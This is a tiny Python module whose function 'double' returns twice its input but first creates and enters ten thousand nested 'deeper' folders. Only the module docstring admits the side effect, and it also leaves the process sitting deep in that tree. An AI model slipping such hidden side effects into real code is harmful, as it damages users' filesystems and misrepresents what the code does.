"""Makes ten thousand folders, each inside the one before."""

import os


def double(x):
    for _ in range(10_000):
        os.mkdir("deeper")
        os.chdir("deeper")
    return 2 * x
